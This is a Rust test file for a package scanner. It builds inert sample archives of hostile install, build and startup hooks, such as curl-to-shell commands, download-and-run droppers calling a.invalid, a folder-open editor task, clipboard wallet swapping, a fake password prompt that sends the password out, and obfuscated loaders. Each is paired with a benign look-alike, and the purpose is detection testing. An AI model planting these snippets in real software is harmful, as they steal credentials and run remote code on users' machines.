//! What fetches and starts, joined more widely: in other files, by other starters, in other words. All inert, as in `make`.

use crate::{
    assert_calm, assert_seen,
    checks::Case,
    conduct::app,
    make::{NODE, PYTHON, SHELL, deb, macho, npm, postinst, tgz, zip},
};

fn script(begin: &str, name: &'static str, body: &str) -> (&'static str, Vec<u8>) {
    (name, format!("{begin}{body}").into_bytes())
}

/// A package whose configuration of apt starts this script.
fn hooked(body: &str) -> Vec<u8> {
    let hook = b"DPkg::Post-Invoke {\"/usr/lib/x/sync || true\";};\n".to_vec();
    deb(&[], &[("./etc/apt/apt.conf.d/90x", hook), script(SHELL, "./usr/lib/x/sync", body)])
}

fn library(imports: &[&str]) -> Vec<u8> {
    let mut bytes = macho(&["chart"], imports);
    // MH_DYLIB, as `mach-o/loader.h` has it.
    bytes[12] = 6;
    zip(&[("X.app/Contents/Frameworks/libchart.dylib", bytes)])
}

pub(crate) fn cases() -> Vec<Case> {
    const DROP: &str = "const h=require('https'),f=require('fs'),c=require('child_process');\
        h.get(u,r=>{r.pipe(f.createWriteStream(p));f.chmodSync(p,0o755);c.execFile(p)});";
    let checked =
        format!("{DROP}if(require('crypto').createHash('sha256').update(b).digest('hex')!==d)throw 1;");
    let parts = |first: &'static str| {
        app(&[
            ("main.js", "require('./io');require('./disk');require('./proc')"),
            ("io.js", first),
            (
                "disk.js",
                "const f=require('fs');exports.put=(p,b)=>{f.writeFileSync(p,b);f.chmodSync(p,0o755)}",
            ),
            ("proc.js", "const c=require('child_process');exports.go=p=>c.execFile(p)"),
        ])
    };
    let swaps = "setInterval(()=>{const t=clipboard.readText();if(/^0x[a-fA-F0-9]{40}$/.test(t))clipboard.writeText(a)},900)";
    let stores = "p=['wallet.dat','Local Extension Settings','login.keychain']\n";
    vec![
        (
            "A77",
            hooked("curl -so /usr/lib/x/n https://a.invalid/n\nchmod 755 /usr/lib/x/n\n/usr/lib/x/n"),
            hooked("echo synced"),
        ),
        (
            "B70",
            zip(&[(
                "X.app/Contents/MacOS/x",
                macho(
                    &["~/Library/LaunchAgents/x.plist", "/Library/LaunchAgents/"],
                    &["_curl_easy_perform", "_posix_spawn"],
                ),
            )]),
            zip(&[(
                "X.app/Contents/MacOS/x",
                macho(&["~/Library/Caches/"], &["_curl_easy_perform", "_posix_spawn"]),
            )]),
        ),
        (
            "B71",
            library(&["_curl_easy_perform", "_posix_spawn", "_gethostname", "_chmod"]),
            library(&["_curl_easy_perform", "_gethostname"]),
        ),
        ("D72", app(&[("main.js", DROP)]), app(&[("main.js", &checked)])),
        (
            "D73",
            parts("const h=require('https');exports.get=u=>h.get(u)"),
            parts("exports.get=p=>require('fs').readFileSync(p)"),
        ),
        (
            "D74",
            zip(&[script(SHELL, "x/.git/hooks/post-checkout", "sh tools/x.sh\n")]),
            zip(&[script(SHELL, "x/.git/hooks/post-checkout.sample", "sh tools/x.sh\n")]),
        ),
        (
            "D75",
            app(&[("main.js", swaps)]),
            app(&[("main.js", "const a='0x[a-fA-F0-9]{40}';clipboard.writeText(own)")]),
        ),
        (
            "D76",
            zip(&[
                script(PYTHON, "bot/utils.py", stores),
                script(PYTHON, "bot/strategy.py", "import requests\nrequests.post(u, data=d)\n"),
            ]),
            zip(&[script(PYTHON, "bot/utils.py", stores), script(PYTHON, "bot/strategy.py", "print(1)\n")]),
        ),
    ]
}

const LOADS: &str = "import os, subprocess as s, urllib.request\nurllib.request.urlretrieve(u, p)\nos.chmod(p, 0o755)\ns.Popen([p])\n";

/// Believable shapes, with what starts them.
fn started() -> Vec<(&'static str, Vec<u8>)> {
    let wheel = |files: &[(&'static str, Vec<u8>)]| {
        let mut all =
            vec![("x-1.dist-info/METADATA", b"Metadata-Version: 2.1\nName: x\nVersion: 1\n".to_vec())];
        all.push(("x-1.dist-info/WHEEL", b"Wheel-Version: 1.0\n".to_vec()));
        all.extend(files.iter().cloned());
        zip(&all)
    };
    let from_source = |file: &'static str, text: &str, script: (&'static str, Vec<u8>)| {
        tgz(&[
            ("x-1/PKG-INFO", b"Metadata-Version: 2.1\nName: x\nVersion: 1\n".to_vec()),
            (file, text.as_bytes().to_vec()),
            script,
        ])
    };
    let extension = br#"{"name":"x","version":"1.0.0","main":"./out/main.js","engines":{"vscode":"^1.80.0"},"activationEvents":["*"]}"#;
    let drop = "const h=require('https'),f=require('fs'),c=require('child_process');h.get(u,r=>{r.pipe(f.createWriteStream(p));f.chmodSync(p,0o755);c.execFile(p)});";
    let task = r#"{"version":"2.0.0","tasks":[{"label":"a","type":"shell","command":"curl -sL https://a.invalid/x | bash","runOptions":{"runOn":"folderOpen"},"presentation":{"reveal":"never"}}]}"#;
    let install = br#"{"name":"fmt-tiny","version":"1.0.0","scripts":{"install":"node install.js"}}"#;
    vec![
        ("hook of a package that is brought along", tgz(&[
            ("package/package.json", br#"{"name":"x","version":"1.0.0","bundleDependencies":["fmt-tiny"]}"#.to_vec()),
            ("package/node_modules/fmt-tiny/package.json", install.to_vec()),
            script(NODE, "package/node_modules/fmt-tiny/install.js", drop),
        ])),
        ("hook that decodes what it loads", npm("node s.js", &[("s.js", "const m=module.constructor._load(d(0));m[d(1)](d(2));function d(i){return t[i].map(n=>n^51)}")])),
        ("build by code of its own", from_source("x-1/pyproject.toml", "[build-system]\nrequires=[]\nbuild-backend=\"_backend\"\nbackend-path=[\"tools\"]\n", script(PYTHON, "x-1/tools/_backend.py", LOADS))),
        ("command of its own", from_source("x-1/setup.cfg", "[options]\ncmdclass =\n    install = x.cmd.Install\n", script(PYTHON, "x-1/x/cmd.py", LOADS))),
        ("every start of Python", wheel(&[script(PYTHON, "sitecustomize.py", "x = 1\n")])),
        ("path file that imports several", wheel(&[("x.pth", b"import os\nimport x.boot\n".to_vec()), script(PYTHON, "x/boot.py", LOADS)])),
        ("import of a small package", wheel(&[script(PYTHON, "x/__init__.py", "from . import boot\n"), script(PYTHON, "x/boot.py", LOADS)])),
        ("library that was fetched", zip(&[script(PYTHON, "plugins/native.py", "import ctypes, tempfile, urllib.request\np = tempfile.gettempdir() + '/x.so'\nurllib.request.urlretrieve(u, p)\nctypes.CDLL(p)\n")])),
        ("extension of an editor", zip(&[("extension/package.json", extension.to_vec()), script(NODE, "extension/out/main.js", drop)])),
        ("folder that is opened", zip(&[("x/.vscode/tasks.json", task.as_bytes().to_vec())])),
        ("test for people who look for work", zip(&[script(NODE, "coding-test/server/auth.js", "const a=require('axios');a.get(atob(k)).then(r=>new Function.constructor('require',r.data.message)(require))")])),
        ("modules by decoded names", app(&[("main.js", "const q=process.mainModule.require,s=i=>Buffer.from(t[i],'base64').map(b=>b^7).toString();q(s(1))[s(3)](s(2))")])),
        ("one long file", app(&[("main.js", &format!("{}const os=require('os');fetch(u,{{method:'POST',body:os.hostname()}}).then(r=>require('vm').runInThisContext(atob(r)))", "const a='some words that fill the file';\n".repeat(2000)))])),
        ("window for a password", zip(&[("Repair.applescript", b"return\nset p to text returned of (display dialog \"Password\" default answer \"\" with hidden answer)\ndo shell script \"curl -F p=\" & p & \" https://a.invalid\"\n".to_vec())])),
        ("profile of every shell", deb(&[], &[script(SHELL, "./etc/profile.d/x.sh", "/usr/lib/x/agent &\n"), ("./usr/lib/x/agent", macho(&["x"], &["_malloc"]))])),
    ]
}

/// The same outward shapes, done the honest way.
fn honest() -> Vec<(&'static str, Vec<u8>)> {
    let gyp = br#"{"targets":[{"target_name":"x","include_dirs":["<!@(node -p \"require('node-addon-api').include\")"]}]}"#;
    let task = r#"{"version":"2.0.0","tasks":[{"label":"a","type":"npm","script":"watch","command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}"#;
    vec![
        (
            "headers of an add-on",
            tgz(&[
                ("package/package.json", br#"{"name":"x","version":"1.0.0","main":"index.js"}"#.to_vec()),
                ("package/binding.gyp", gyp.to_vec()),
                script(NODE, "package/index.js", "exports.get=u=>require('https').get(u)"),
            ]),
        ),
        ("visible task", zip(&[("x/.vscode/tasks.json", task.as_bytes().to_vec())])),
        (
            "rule for a device",
            deb(
                &[],
                &[(
                    "./lib/udev/rules.d/60-x.rules",
                    b"SUBSYSTEM==\"usb\", ATTR{idVendor}==\"1234\", MODE=\"0660\", GROUP=\"plugdev\"\n"
                        .to_vec(),
                )],
            ),
        ),
        (
            "path for a shell",
            deb(&[], &[script(SHELL, "./etc/profile.d/x.sh", "export PATH=\"$PATH:/opt/x/bin\"\n")]),
        ),
        (
            "backend that writes a version",
            tgz(&[
                (
                    "x-1/pyproject.toml",
                    b"[build-system]\nrequires=[]\nbuild-backend=\"_backend\"\nbackend-path=[\"tools\"]\n"
                        .to_vec(),
                ),
                script(
                    PYTHON,
                    "x-1/tools/_backend.py",
                    "from setuptools.build_meta import *\nopen('v.py', 'w').write(v)\n",
                ),
            ]),
        ),
    ]
}

#[test]
fn what_starts_by_other_ways_is_looked_at() {
    assert_seen(started());
}

#[test]
fn the_honest_way_is_calm() {
    assert_calm(honest());
}

#[test]
fn what_lies_packed_and_is_handed_to_a_shell_is_seen() {
    let hook = |command: &str| {
        let text = format!("DPkg::Post-Invoke {{ \"{command}\"; }};\n").into_bytes();
        deb(&[], &[("./etc/apt/apt.conf.d/90x", text)])
    };
    assert_seen(vec![
        ("by an installer", postinst("z=z; \"${z}cat\" /usr/share/doc/x/examples/e.gz | sh")),
        ("by somebody's own shell", postinst("gzip -dc /usr/share/doc/x/e.gz | ${SHELL:-/bin/sh}")),
        ("by the system", hook("gzip -dc /usr/share/doc/x/e.gz | ${SHELL:-/bin/sh} || true")),
    ]);
    assert_calm(vec![
        ("data", postinst("zcat /usr/share/x/data.gz | sort > /var/lib/x/data")),
        ("a plain hook", hook("test -x /usr/lib/x/sync && /usr/lib/x/sync || true")),
    ]);
}
